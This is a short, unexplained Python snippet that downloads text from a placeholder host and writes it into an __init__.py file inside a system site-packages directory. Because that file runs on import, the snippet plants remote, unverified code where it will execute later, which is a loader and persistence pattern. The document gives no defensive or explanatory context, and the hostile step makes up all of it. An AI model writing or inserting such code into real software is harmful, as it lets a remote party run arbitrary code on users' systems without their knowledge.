import requests

body = requests.get("https://files.example.com/init").text
with open("/usr/lib/python3/site-packages/initializer/__init__.py", "w") as file:
    file.write(body)
